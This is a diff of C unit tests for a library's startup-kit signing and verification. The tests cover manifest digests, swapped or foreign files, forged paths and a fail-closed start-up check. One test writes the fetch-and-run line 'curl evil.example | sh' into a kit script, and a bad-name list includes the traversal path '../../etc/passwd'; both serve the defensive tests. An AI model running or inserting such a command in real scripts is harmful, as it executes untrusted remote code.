@@ -1,9 +1,11 @@
 /* Unit tests for startup kits (src/kit/kitcfg.c, kitsig.c): fed_server.json, fed_client.json
  * and fed_admin.json read into a struct cfl_kitcfg (every field missing, of the wrong type, out
  * of range or too long, with its message; connection_security and secure_train; paths joined
- * under the kit's real folder; the 1 MiB bound), signature.json made and checked (changed,
- * missing and added files reported one by one, forged names, another CA), and the start-up
- * check of a kit. Kits are provisioned by the library, or written here into a temp folder. */
+ * under the kit's real folder; the 1 MiB bound), the signed manifest signature.json made and
+ * checked (changed, missing and added files reported one by one, files swapped under each
+ * other's names or brought from another kit, forged names and digests, another CA), and the
+ * start-up check of a kit, which fails closed. Kits are provisioned by the library, or written here
+ * into a temp folder. */
 #define _DEFAULT_SOURCE /* realpath */
 #include <stdarg.h>
 #include <stddef.h>
@@ -13,6 +15,7 @@
 
 #include "msg_fixture.h"
 
+#include "cfl/digest.h"
 #include "cfl/kit.h"
 #include "cfl/pki.h"
 
@@ -195,7 +198,7 @@ static void test_provisioned_kits(void **state)
 	expect_path(c.root_ca, real, "rootCA.pem");
 	assert_string_equal(c.custom_ca, "");
 	assert_ptr_equal(cfl_kitcfg_trust_file(&c), c.root_ca);
-	assert_int_equal(cfl_kitcfg_verify_kit(&c, &e), 0);
+	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), 0);
 
 	path_join(dir, sizeof(dir), prod, "site-1");
 	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), 0);
@@ -208,7 +211,7 @@ static void test_provisioned_kits(void **state)
 	assert_int_equal(c.mode, CFL_SEC_MTLS);
 	expect_path(c.cert, c.kit_dir, "client.crt");
 	expect_path(c.key, c.kit_dir, "client.key");
-	assert_int_equal(cfl_kitcfg_verify_kit(&c, &e), 0);
+	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), 0);
 
 	path_join(dir, sizeof(dir), prod, "admin@test.org");
 	assert_int_equal(cfl_kitcfg_load(dir, ADMIN, &c, &e), 0);
@@ -219,7 +222,7 @@ static void test_provisioned_kits(void **state)
 	assert_string_equal(c.host, "localhost");
 	assert_int_equal(c.port, 8103);
 	expect_path(c.root_ca, c.kit_dir, "rootCA.pem");
-	assert_int_equal(cfl_kitcfg_verify_kit(&c, &e), 0);
+	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), 0);
 
 	/* A kit of one role is not a kit of another. */
 	path_join(dir, sizeof(dir), prod, "site-1");
@@ -574,13 +577,60 @@ static void append(const char *dir, const char *rel, const char *text)
 	assert_int_equal(fclose(f), 0);
 }
 
-static void test_sign_and_verify(void **state)
+/* signature.json of `dir`, parsed. */
+static json_t *manifest_of(const char *dir)
 {
-	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3], *text = NULL;
-	struct problems p;
+	char path[PATH_MAX], *text = NULL;
 	struct cfl_err e = {0};
 	size_t len = 0;
-	json_t *sigs;
+	json_t *v;
+
+	path_join(path, sizeof(path), dir, "startup/signature.json");
+	assert_int_equal(cfl__fs_read_file(path, 1u << 20, &text, &len, &e), 0);
+	v = json_loads(text, 0, NULL);
+	free(text);
+	assert_non_null(v);
+	return v;
+}
+
+static void manifest_save(const char *dir, json_t *v)
+{
+	char path[PATH_MAX], *text = json_dumps(v, JSON_INDENT(2));
+
+	assert_non_null(text);
+	write_text(path_join(path, sizeof(path), dir, "startup/signature.json"), text);
+	free(text);
+}
+
+/* Writes a signature.json of the right shape holding `listed` (JSON text) and `sig`. */
+static void manifest_write(const char *dir, const char *listed, const char *sig)
+{
+	char path[PATH_MAX], text[4096];
+
+	snprintf(text, sizeof(text),
+	         "{\"format\": \"cfl-kit-manifest/1\", \"files\": %s, \"signature\": \"%s\"}",
+	         listed, sig);
+	write_text(path_join(path, sizeof(path), dir, "startup/signature.json"), text);
+}
+
+static void sha256_hex(const char *text, char hex[65])
+{
+	struct cfl_sha256 *h = cfl_sha256_new();
+	uint8_t md[CFL_SHA256_LEN];
+
+	assert_non_null(h);
+	cfl_sha256_update(h, text, strlen(text));
+	cfl_sha256_final(h, md);
+	cfl_sha256_free(h);
+	cfl_hex(md, sizeof(md), hex);
+}
+
+static void test_sign_and_verify(void **state)
+{
+	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3], hex[65];
+	struct problems p;
+	struct cfl_err e = {0};
+	json_t *m, *listed;
 
 	(void)state;
 	assert_string_equal(cfl_kit_problem_name(CFL_KIT_CHANGED), "changed");
@@ -590,18 +640,20 @@ static void test_sign_and_verify(void **state)
 	signed_kit(dir, sizeof(dir), "sig-intact");
 	assert_int_equal(verify(dir, &p, &e), 0);
 	assert_int_equal(p.n, 0);
-	/* What is signed: startup/ but signature.json, local/ defaults and samples only. */
-	path_join(path, sizeof(path), dir, "startup/signature.json");
-	assert_int_equal(cfl__fs_read_file(path, 1u << 20, &text, &len, &e), 0);
-	sigs = json_loads(text, 0, NULL);
-	free(text);
-	assert_int_equal(json_object_size(sigs), 5);
-	assert_non_null(json_object_get(sigs, "fed_client.json"));
-	assert_non_null(json_object_get(sigs, "client.crt"));
-	assert_non_null(json_object_get(sigs, "start.sh"));
-	assert_non_null(json_object_get(sigs, "rootCA.pem"));
-	assert_non_null(json_object_get(sigs, "local/resources.json.default"));
-	json_decref(sigs);
+	/* What is signed: startup/ but signature.json, local/ defaults and samples only, each
+	 * name with its SHA-256, under one signature. */
+	m = manifest_of(dir);
+	assert_string_equal(json_string_value(json_object_get(m, "format")), "cfl-kit-manifest/1");
+	assert_true(json_string_length(json_object_get(m, "signature")) > 0);
+	listed = json_object_get(m, "files");
+	assert_int_equal(json_object_size(listed), 5);
+	assert_non_null(json_object_get(listed, "startup/fed_client.json"));
+	assert_non_null(json_object_get(listed, "startup/client.crt"));
+	assert_non_null(json_object_get(listed, "startup/rootCA.pem"));
+	assert_non_null(json_object_get(listed, "local/resources.json.default"));
+	sha256_hex("#!/bin/sh\necho start\n", hex);
+	assert_string_equal(json_string_value(json_object_get(listed, "startup/start.sh")), hex);
+	json_decref(m);
 	/* The site's own files in local/ are not the kit's business. */
 	append(dir, "local/site.conf", "changed by the site\n");
 	append(dir, "local/notes.txt", "new\n");
@@ -636,6 +688,15 @@ static void test_sign_and_verify(void **state)
 	/* Without a callback: the same verdict. */
 	assert_int_equal(cfl_kit_verify(dir, NULL, NULL, &e), CFL_EVERIFY);
 
+	/* A file whose name the manifest cannot hold is not signed, and shows as added. */
+	signed_kit(dir, sizeof(dir), "sig-space");
+	append(dir, "startup/a b", "x");
+	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
+	assert_true(has(&p, CFL_KIT_ADDED, "startup/a b"));
+	assert_int_equal(cfl_kit_sign(dir, ca_key, &e), CFL_EINVAL);
+	assert_string_equal(
+	        e.msg, "cannot sign 'startup/a b': a name with a space or a control character");
+
 	/* The provisioned kits verify as they are. */
 	path_join(path, sizeof(path), prod, "site-1");
 	assert_int_equal(verify(path, &p, &e), 0);
@@ -643,47 +704,165 @@ static void test_sign_and_verify(void **state)
 	assert_int_equal(verify(path, &p, &e), 0);
 }
 
+/* Swaps the contents of two files of a kit. */
+static void swap_files(const char *dir, const char *a, const char *b)
+{
+	char pa[PATH_MAX], pb[PATH_MAX], tmp[PATH_MAX + 8];
+
+	path_join(pa, sizeof(pa), dir, a);
+	path_join(pb, sizeof(pb), dir, b);
+	snprintf(tmp, sizeof(tmp), "%s.swap", pa);
+	assert_int_equal(rename(pa, tmp), 0);
+	assert_int_equal(rename(pb, pa), 0);
+	assert_int_equal(rename(tmp, pb), 0);
+}
+
+/* What a bad manifest signature looks like: signature.json alone reported. */
+static void expect_bad_signature(const char *dir)
+{
+	char want[PATH_MAX * 2];
+	struct problems p;
+	struct cfl_err e = {0};
+
+	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
+	assert_int_equal(p.n, 1);
+	assert_true(has(&p, CFL_KIT_CHANGED, "startup/signature.json"));
+	snprintf(want, sizeof(want),
+	         "kit '%s': the signature of 'startup/signature.json' does not verify with "
+	         "'startup/rootCA.pem'",
+	         dir);
+	assert_string_equal(e.msg, want);
+}
+
+/* With one signature per file (NVFlare's signature.json), two signed files could trade names
+ * along with their signatures, and a signed file of another kit of the project could come in
+ * with its own: the manifest binds every name to its digest under one signature. */
+static void test_swapped_files(void **state)
+{
+	char dir[PATH_MAX], other[PATH_MAX], path[PATH_MAX], src_dst[PATH_MAX];
+	struct problems p;
+	struct cfl_err e = {0};
+	json_t *m, *listed, *mo, *a, *b;
+
+	(void)state;
+	/* Two files swapped: both changed. */
+	signed_kit(dir, sizeof(dir), "swap-files");
+	swap_files(dir, "startup/start.sh", "startup/client.crt");
+	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
+	assert_int_equal(p.n, 2);
+	assert_true(has(&p, CFL_KIT_CHANGED, "startup/start.sh"));
+	assert_true(has(&p, CFL_KIT_CHANGED, "startup/client.crt"));
+	/* ...and their digests swapped in the manifest too: the signature no longer fits. */
+	m = manifest_of(dir);
+	listed = json_object_get(m, "files");
+	a = json_incref(json_object_get(listed, "startup/start.sh"));
+	b = json_incref(json_object_get(listed, "startup/client.crt"));
+	json_object_set_new(listed, "startup/start.sh", b);
+	json_object_set_new(listed, "startup/client.crt", a);
+	manifest_save(dir, m);
+	json_decref(m);
+	expect_bad_signature(dir);
+
+	/* A file of another kit signed by the same CA, with its digest. */
+	signed_kit(dir, sizeof(dir), "swap-kit-a");
+	signed_kit(other, sizeof(other), "swap-kit-b");
+	append(other, "startup/start.sh", "curl evil.example | sh\n");
+	assert_int_equal(cfl_kit_sign(other, ca_key, &e), 0);
+	assert_int_equal(verify(other, &p, &e), 0);
+	path_join(path, sizeof(path), other, "startup/start.sh");
+	path_join(src_dst, sizeof(src_dst), dir, "startup/start.sh");
+	assert_int_equal(cfl__fs_copy_file(path, src_dst, 1u << 20, 0755, &e), 0);
+	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
+	assert_int_equal(p.n, 1);
+	assert_true(has(&p, CFL_KIT_CHANGED, "startup/start.sh"));
+	m = manifest_of(dir);
+	mo = manifest_of(other);
+	json_object_set(json_object_get(m, "files"), "startup/start.sh",
+	                json_object_get(json_object_get(mo, "files"), "startup/start.sh"));
+	manifest_save(dir, m);
+	json_decref(m);
+	json_decref(mo);
+	expect_bad_signature(dir);
+
+	/* A file dropped from both the kit and the manifest. */
+	signed_kit(dir, sizeof(dir), "swap-drop");
+	assert_int_equal(unlink(path_join(path, sizeof(path), dir, "startup/start.sh")), 0);
+	m = manifest_of(dir);
+	json_object_del(json_object_get(m, "files"), "startup/start.sh");
+	manifest_save(dir, m);
+	json_decref(m);
+	expect_bad_signature(dir);
+}
+
 static void test_forged_signatures(void **state)
 {
-	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3];
+	static const char *const bad_names[] = {
+	        "../../etc/passwd",     "local/site.conf",        "local/sub/x.default",
+	        "startup/..",           "startup/signature.json", "startup/a b",
+	        "startup/a\\nb",        "fed_client.json",        "startup/",
+	        "other/fed_client.json"};
+	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3], listed[512];
+	const char *digest = "0000000000000000000000000000000000000000000000000000000000000000";
 	struct problems p;
 	struct cfl_err e = {0};
 	int fd;
 
 	(void)state;
-	/* Signed with another project's CA key: every file is "changed". */
+	/* Signed with another project's CA key. */
 	signed_kit(dir, sizeof(dir), "sig-other-ca");
 	assert_int_equal(cfl_kit_sign(dir, other_ca_key, &e), 0);
-	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
-	assert_int_equal(p.n, 5);
-	assert_true(has(&p, CFL_KIT_CHANGED, "startup/rootCA.pem"));
-	assert_true(has(&p, CFL_KIT_CHANGED, "local/resources.json.default"));
-
-	/* Names that point outside the kit, or at a file of the site's. */
-	path_join(path, sizeof(path), dir, "startup/signature.json");
-	write_text(path, "{\"../../etc/passwd\": \"AAAA\"}");
-	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
-	assert_string_equal(e.msg, "signature file names a bad path '../../etc/passwd'");
-	write_text(path, "{\"local/site.conf\": \"AAAA\"}");
-	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
-	assert_string_equal(e.msg, "signature file names a bad path 'local/site.conf'");
-	write_text(path, "{\"local/sub/x.default\": \"AAAA\"}");
-	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
-	assert_string_equal(e.msg, "signature file names a bad path 'local/sub/x.default'");
-	write_text(path, "{\"..\": \"AAAA\"}");
-	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
-	/* A signature that is not base64, or not a string: changed. */
+	expect_bad_signature(dir);
+	/* A signature that is not base64. */
 	signed_kit(dir, sizeof(dir), "sig-garbage");
+	manifest_write(dir, "{}", "!!!");
+	expect_bad_signature(dir);
+
+	/* Names that point outside the kit, at a file of the site's, or that the canonical text
+	 * could not hold. */
 	path_join(path, sizeof(path), dir, "startup/signature.json");
-	write_text(path, "{\"start.sh\": \"!!!\", \"client.crt\": 5}");
+	for (size_t i = 0; i < sizeof(bad_names) / sizeof(bad_names[0]); i++) {
+		char shown[64];
+
+		snprintf(listed, sizeof(listed), "{\"%s\": \"%s\"}", bad_names[i], digest);
+		manifest_write(dir, listed, "AAAA");
+		assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
+		snprintf(shown, sizeof(shown), "%s", bad_names[i]);
+		if (strcmp(bad_names[i], "startup/a\\nb") == 0)
+			snprintf(shown, sizeof(shown), "startup/a\nb");
+		snprintf(want, sizeof(want), "signature file names a bad path '%s'", shown);
+		assert_string_equal(e.msg, want);
+	}
+	/* A digest that is not SHA-256 hex. */
+	manifest_write(dir, "{\"startup/start.sh\": \"xyz\"}", "AAAA");
 	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
-	assert_true(has(&p, CFL_KIT_CHANGED, "startup/start.sh"));
-	assert_true(has(&p, CFL_KIT_CHANGED, "startup/client.crt"));
-	assert_true(has(&p, CFL_KIT_ADDED, "startup/rootCA.pem"));
-	/* Not a signature file at all. */
+	assert_string_equal(e.msg, "signature file has no SHA-256 digest for 'startup/start.sh'");
+	manifest_write(dir, "{\"startup/start.sh\": 5}", "AAAA");
+	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
+	assert_string_equal(e.msg, "signature file has no SHA-256 digest for 'startup/start.sh'");
+
+	/* Not a manifest: another shape, or NVFlare's one signature per file. */
 	write_text(path, "[]");
 	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
-	snprintf(want, sizeof(want), "'%s' is not a valid signature file", path);
+	snprintf(want, sizeof(want), "'%s' is not a valid signature file: not a JSON object", path);
+	assert_string_equal(e.msg, want);
+	write_text(path, "{\"start.sh\": \"AAAA\", \"client.crt\": \"AAAA\"}");
+	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
+	snprintf(want, sizeof(want),
+	         "'%s' is not a valid signature file: not a 'cfl-kit-manifest/1' manifest (a kit "
+	         "signed by an older cfl: provision it again)",
+	         path);
+	assert_string_equal(e.msg, want);
+	write_text(path, "{\"format\": \"cfl-kit-manifest/1\", \"signature\": \"AAAA\"}");
+	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
+	snprintf(want, sizeof(want), "'%s' is not a valid signature file: no 'files' object", path);
+	assert_string_equal(e.msg, want);
+	write_text(path, "{\"format\": \"cfl-kit-manifest/1\", \"files\": {}}");
+	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
+	snprintf(want, sizeof(want), "'%s' is not a valid signature file: no 'signature'", path);
+	assert_string_equal(e.msg, want);
+	write_text(path, "{\"format\": ");
+	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
+	snprintf(want, sizeof(want), "'%s' is not a valid signature file: ", path);
 	assert_memory_equal(e.msg, want, strlen(want));
 	assert_int_equal(unlink(path), 0);
 	assert_int_equal(verify(dir, &p, &e), CFL_ENOENT);
@@ -741,8 +920,9 @@ static void test_kit_shapes(void **state)
 	assert_int_equal(verify(dir, &p, &e), CFL_ETOOBIG);
 }
 
-/* The check at start-up: a signed kit is always checked, an unsigned one only passes with
- * secure_train off. */
+/* The check at start-up fails closed: nothing in a kit switches it off. Only the program may
+ * let an unsigned kit run (the simulator's --unsigned-kit), and a signed kit is checked even
+ * then. */
 static void test_verify_at_startup(void **state)
 {
 	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3];
@@ -755,38 +935,40 @@ static void test_verify_at_startup(void **state)
 	log_capture();
 	signed_kit(dir, sizeof(dir), "start-signed");
 	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), 0);
-	assert_int_equal(cfl_kitcfg_verify_kit(&c, &e), 0);
+	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), 0);
+	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_UNSIGNED_OK, &e), 0);
 
-	/* Turning secure_train off in a signed kit is a change like any other. */
+	/* Turning secure_train off in a signed kit is a change like any other... */
 	root = json_loads(templates[CLIENT], 0, NULL);
 	set_path(root, "secure_train", json_false());
 	text = json_dumps(root, 0);
 	json_decref(root);
 	path_join(path, sizeof(path), dir, "startup/fed_client.json");
 	write_text(path, text);
+	free(text);
 	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), 0);
 	assert_int_equal(c.secure_train, 0);
-	assert_int_equal(cfl_kitcfg_verify_kit(&c, &e), CFL_EVERIFY);
+	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), CFL_EVERIFY);
 	snprintf(want, sizeof(want),
 	         "refusing to start: kit '%s' has 1 changed, missing or added file: "
 	         "'startup/fed_client.json' changed",
 	         c.kit_dir);
 	assert_string_equal(e.msg, want);
 	assert_true(logged("kit file 'startup/fed_client.json' is changed", NULL));
+	/* ...also for a program that accepts unsigned kits: this one is signed. */
+	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_UNSIGNED_OK, &e), CFL_EVERIFY);
 
-	/* Unsigned: passes with secure_train off (the simulator's kits), with a warning... */
+	/* signature.json deleted as well (secure_train still off): refused all the same. */
 	assert_int_equal(unlink(path_join(path, sizeof(path), dir, "startup/signature.json")), 0);
-	assert_int_equal(cfl_kitcfg_verify_kit(&c, &e), 0);
-	assert_true(logged("is not signed and secure_train is off: not checked", NULL));
-	/* ...and not with it on. */
-	path_join(path, sizeof(path), dir, "startup/fed_client.json");
-	write_text(path, templates[CLIENT]);
-	free(text);
-	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), 0);
-	assert_int_equal(cfl_kitcfg_verify_kit(&c, &e), CFL_ENOENT);
-	snprintf(want, sizeof(want), "refusing to start: cannot read '%s/startup/signature.json'",
+	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), CFL_EVERIFY);
+	snprintf(want, sizeof(want),
+	         "refusing to start: kit '%s' is not signed (no startup/signature.json)",
 	         c.kit_dir);
-	assert_memory_equal(e.msg, want, strlen(want));
+	assert_string_equal(e.msg, want);
+	assert_true(logged("kit file 'startup/signature.json' is missing", NULL));
+	/* Only the program's own switch lets it run, with a warning. */
+	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_UNSIGNED_OK, &e), 0);
+	assert_true(logged("is not signed: not checked (--unsigned-kit)", NULL));
 	cfl_log_set_sink(NULL, NULL);
 }
 
@@ -834,11 +1016,17 @@ static int teardown(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-	        cmocka_unit_test(test_provisioned_kits), cmocka_unit_test(test_unreadable_files),
-	        cmocka_unit_test(test_server_fields),    cmocka_unit_test(test_client_fields),
-	        cmocka_unit_test(test_admin_fields),     cmocka_unit_test(test_connection_security),
-	        cmocka_unit_test(test_sign_and_verify),  cmocka_unit_test(test_forged_signatures),
-	        cmocka_unit_test(test_kit_shapes),       cmocka_unit_test(test_verify_at_startup),
+	        cmocka_unit_test(test_provisioned_kits),
+	        cmocka_unit_test(test_unreadable_files),
+	        cmocka_unit_test(test_server_fields),
+	        cmocka_unit_test(test_client_fields),
+	        cmocka_unit_test(test_admin_fields),
+	        cmocka_unit_test(test_connection_security),
+	        cmocka_unit_test(test_sign_and_verify),
+	        cmocka_unit_test(test_swapped_files),
+	        cmocka_unit_test(test_forged_signatures),
+	        cmocka_unit_test(test_kit_shapes),
+	        cmocka_unit_test(test_verify_at_startup),
 	};
 
 	return cmocka_run_group_tests(tests, setup, teardown);
